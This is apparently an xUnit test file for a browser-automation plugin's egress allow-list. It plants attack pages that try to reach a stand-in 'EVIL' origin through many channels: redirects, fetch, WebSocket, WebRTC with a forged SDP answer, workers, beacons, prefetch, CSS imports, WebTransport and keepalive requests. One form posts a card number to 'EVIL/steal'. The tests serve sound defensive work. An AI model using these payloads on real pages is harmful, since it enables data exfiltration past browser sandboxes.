using Magma.Plugins.Web.Acting;
using Magma.Plugins.Web.Observation;

namespace Magma.Plugins.Web.Tests;

/// <summary>One Chromium for the egress vectors (launching one per vector would only add time); each vector has its own page.</summary>
public sealed class EgressFixture : IAsyncLifetime
{
    internal AttackSite Site { get; private set; } = null!;

    // Approves everything: these tests are about the allow-list, which holds whatever the gate says.
    public async Task InitializeAsync() => Site = await AttackSite.StartAsync(approve: (_, _) => Task.FromResult(true));

    public async Task DisposeAsync() => await Site.DisposeAsync();
}

/// <summary>
/// The egress boundary, tried as an attacker would: a page on the allowed origin sends the browser to a second server
/// on another port (another origin) through every channel we know of. That server's log — TCP connections, HTTP requests,
/// UDP datagrams — must stay empty, and the session must report the refusal with the URL it refused.
/// </summary>
public sealed class EgressAttackTests(EgressFixture fixture) : IClassFixture<EgressFixture>
{
    private const string Rtc = """
        <script>window.DONE = (async function () {
          const hp = 'EVIL'.replace('http://', '');
          const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + hp }, { urls: 'turn:' + hp + '?transport=udp', username: 'u', credential: 'p' }, { urls: 'turn:' + hp + '?transport=tcp', username: 'u', credential: 'p' }] });
          pc.createDataChannel('x');
          const gathered = new Promise(function (r) { pc.addEventListener('icegatheringstatechange', function () { if (pc.iceGatheringState === 'complete') r(); }); });
          await pc.setLocalDescription(await pc.createOffer());
          if (pc.iceGatheringState !== 'complete') await gathered;
          // A second connection told to reach the attacker's port directly as a host candidate.
          const pc2 = new RTCPeerConnection();
          pc2.createDataChannel('y');
          await pc2.setLocalDescription(await pc2.createOffer());
          const ufrag = 'abcd', pwd = 'abcdefghijklmnopqrstuv';
          const fp = pc2.localDescription.sdp.match(/a=fingerprint:[^\r\n]+/)[0];
          const answer = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
            'c=IN IP4 127.0.0.1', 'a=mid:0', 'a=ice-ufrag:' + ufrag, 'a=ice-pwd:' + pwd, fp, 'a=setup:active', 'a=sctp-port:5000',
            'a=candidate:1 1 udp 2130706431 127.0.0.1 ' + hp.split(':')[1] + ' typ host', 'a=end-of-candidates', ''].join('\r\n');
          const pc2Gathered = new Promise(function (r) { if (pc2.iceGatheringState === 'complete') r(); pc2.addEventListener('icegatheringstatechange', function () { if (pc2.iceGatheringState === 'complete') r(); }); });
          await pc2Gathered;
          await pc2.setRemoteDescription({ type: 'answer', sdp: answer });
          // With a local candidate ICE starts checking at once (the checks would reach the attacker); with none it cannot send.
          if (!/a=candidate/.test(pc2.localDescription.sdp)) return 'no local candidates';
          await new Promise(function (r) { const done = function () { if (['checking', 'failed', 'connected', 'closed'].includes(pc2.iceConnectionState)) r(); }; pc2.addEventListener('iceconnectionstatechange', done); done(); });
          return pc2.iceConnectionState;
        })();</script>
        """;

    /// <summary>name, page HTML (EVIL = attacker origin), what to click (null: the page attacks on load), a URL part the refusal must name.</summary>
    public static readonly TheoryData<string, string, string?, string?> Vectors = new()
    {
        { "redirect-link", """<a href="/r302?to=EVIL/link">Go on</a>""", "Go on", "/link" },
        { "redirect-post-307", """<form method="post" action="/r307?to=EVIL/steal"><input name="card" aria-label="Card" value="4111111111111111"> <button>Continue</button></form>""", "Continue", "/steal" },
        { "redirect-img", """<img src="/r302?to=EVIL/img" alt="x">""", null, "/img" },
        { "redirect-fetch", """<button onclick="window.DONE = fetch('/r302?to=' + encodeURIComponent('EVIL/fetch')).catch(function () { return 'failed'; })">Fetch it</button>""", "Fetch it", "/fetch" },
        { "redirect-script", """<script src="/r302?to=EVIL/script"></script>""", null, "/script" },
        { "redirect-iframe", """<iframe src="/r302?to=EVIL/frame"></iframe>""", null, "/frame" },
        { "iframe", """<iframe src="EVIL/frame-direct"></iframe>""", null, "/frame-direct" },
        { "websocket", """<script>window.DONE = new Promise(function (r) { const ws = new WebSocket('EVIL/ws'.replace('http', 'ws')); ws.onerror = r; ws.onclose = r; ws.onopen = r; });</script>""", null, null },
        { "webrtc", Rtc, null, null },
        { "worker", """<script>window.DONE = new Promise(function (r) { const w = new Worker('/worker.js'); w.onmessage = r; w.onerror = r; });</script>""", null, "/worker-direct" },
        { "blob-worker", """<script>window.DONE = new Promise(function (r) { const src = "fetch('EVIL/blob-worker').finally(function () { postMessage(1); });"; const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' }))); w.onmessage = r; w.onerror = r; });</script>""", null, null },
        { "shared-worker", """<script>window.DONE = new Promise(function (r) { const src = "onconnect = function (e) { fetch('EVIL/shared-worker').finally(function () { e.ports[0].postMessage(1); }); };"; const w = new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' }))); w.port.onmessage = r; w.onerror = r; });</script>""", null, null },
        { "prefetch", """<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="//attacker.invalid"><script type="speculationrules">{"prerender":[{"source":"list","urls":["EVIL/prerender"]}],"prefetch":[{"source":"list","urls":["EVIL/spec-prefetch"]}]}</script><script>window.DONE = new Promise(function (r) { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL/prefetch'; l.onload = r; l.onerror = r; document.head.appendChild(l); });</script>""", null, "/prefetch" },
        { "javascript-url", """<a href="javascript:location.href='EVIL/js'">Leave now</a>""", "Leave now", "/js" },
        { "subresources", """<img src="EVIL/img-direct" alt="y"><script>navigator.sendBeacon('EVIL/beacon', 'x'); window.DONE = Promise.allSettled([fetch('EVIL/fetch-direct', { mode: 'no-cors' }), fetch('https://' + 'EVIL/tls'.replace('http://', ''))]);</script>""", null, "/img-direct" },
        { "eventsource", """<script>window.DONE = new Promise(function (r) { const es = new EventSource('EVIL/es'); es.onerror = function () { es.close(); r(); }; });</script>""", null, null },
        { "popup", """<button onclick="window.open('EVIL/popup')">Pop up</button>""", "Pop up", "/popup" },
        { "form-get", """<form action="EVIL/search"><input name="q" aria-label="Query" value="x"> <button>Search it</button></form>""", "Search it", "/search" },
        { "meta-refresh", """<meta http-equiv="refresh" content="0;url=EVIL/meta">""", null, "/meta" },
        { "css", """<style>@import url("EVIL/import.css"); body { background: url("EVIL/bg.png"); }</style>""", null, "/import.css" },
        // QUIC/UDP: WebTransport opens its own connection, not through an HTTP proxy.
        { "webtransport", """<script>window.DONE = (async function () { try { const t = new WebTransport('https://' + 'EVIL/wt'.replace('http://', '')); await t.ready; } catch (e) { return String(e); } })();</script>""", null, null },
        { "unload-keepalive", """<a href="/p/elsewhere">Next page</a><script>addEventListener('pagehide', function () { fetch('EVIL/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }); navigator.sendBeacon('EVIL/unload-beacon', 'y'); });</script>""", "Next page", "/keepalive" },
        { "module-import", """<script type="module">window.DONE = import('EVIL/mod.js').catch(function () { return 'failed'; });</script>""", null, "/mod.js" },
        { "embedded-content", """<svg width="10" height="10"><image href="EVIL/svg.png" width="10" height="10"/></svg><object data="EVIL/object"></object><video src="EVIL/video.mp4"></video><style>@font-face { font-family: x; src: url("EVIL/font.woff2"); } p { font-family: x; }</style><p>text</p>""", null, "/svg.png" },
        { "srcdoc-frame", """<iframe srcdoc="<script>fetch('EVIL/srcdoc', { mode: 'no-cors' }).catch(function () {}); location.href = 'EVIL/srcdoc-nav';</script>"></iframe>""", null, "/srcdoc" },
        { "delayed-navigation", """<button onclick="setTimeout(function () { location.replace('EVIL/later'); }, 50)">Wait then go</button>""", "Wait then go", "/later" },
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public async Task Nothing_reaches_the_other_origin(string name, string html, string? click, string? refused)
    {
        AttackSite site = fixture.Site;
        string url = site.Page(name, html);
        int before = site.Session.Blocked.Count, logged = site.Attacker.Log.Count;
        WebEffect effect = await site.Session.OpenAsync(url);
        if (click is not null)
        {
            WebObservation obs = await site.Session.ObserveAsync();
            WebMark mark = obs.Marks.FirstOrDefault(m => m.Name == click) ?? throw new Xunit.Sdk.XunitException($"{name}: no mark \"{click}\" in\n{obs.MarkList()}");
            effect = await site.Session.ClickAsync(obs.Id, mark.Id);
        }

        // Event-based waits: the page's own completion promise, then the session's refusal event.
        if (await site.Session.Page.EvaluateAsync<bool>("() => !!window.DONE"))
        {
            await site.Session.Page.EvaluateAsync("() => window.DONE.then(function () { return 1; }, function () { return 0; })");
        }

        if (refused is not null)
        {
            await site.BlockedAsync(site.Evil + refused);
        }

        IReadOnlyList<string> leaked = await site.AttackerLogAsync(logged);
        Assert.True(leaked.Count == 0, $"{name}: the attacker's server received:\n{string.Join('\n', leaked)}");

        // The refusal is reported with the URL it refused, and the page stays on the allowed origin.
        if (refused is not null)
        {
            Assert.Contains(site.Session.Blocked.Skip(before), b => b.Url.Contains(site.Evil + refused, StringComparison.Ordinal));
        }

        Assert.StartsWith(site.Allowed.Origin, site.Session.Page.Url, StringComparison.Ordinal);
        Assert.DoesNotContain(site.Session.Page.Context.Pages, p => p.Url.StartsWith(site.Evil, StringComparison.Ordinal));
        Assert.DoesNotContain(effect.ToString(), "navigated to " + site.Evil, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_redirect_on_open_is_refused_at_its_hop_and_reported_with_that_url()
    {
        AttackSite site = fixture.Site;
        WebEffect effect = await site.Session.OpenAsync($"{site.Allowed.Origin}/r302?to={Uri.EscapeDataString(site.Evil + "/open")}");
        Assert.Empty(await site.AttackerLogAsync());
        Assert.Contains(effect.Blocked, b => b.Contains(site.Evil + "/open", StringComparison.Ordinal) && b.StartsWith("blocked navigation", StringComparison.Ordinal));
        Assert.DoesNotContain(site.Evil, site.Session.Page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_redirected_link_click_reports_the_refused_hop_in_its_own_effect()
    {
        AttackSite site = fixture.Site;
        await site.Session.OpenAsync(site.Page("hop-report", """<a href="/r302?to=EVIL/hop">Next page</a>"""));
        WebObservation obs = await site.Session.ObserveAsync();
        WebEffect effect = await site.Session.ClickAsync(obs.Id, obs.Marks.Single(m => m.Name == "Next page").Id);
        // The settle waits for the action's requests (each hop included) to end, so the report of this very click has it.
        Assert.Contains(effect.Blocked, b => b.Contains(site.Evil + "/hop", StringComparison.Ordinal));
        Assert.False(effect.UrlChanged, effect.ToString());
        Assert.Empty(await site.AttackerLogAsync());
    }
}
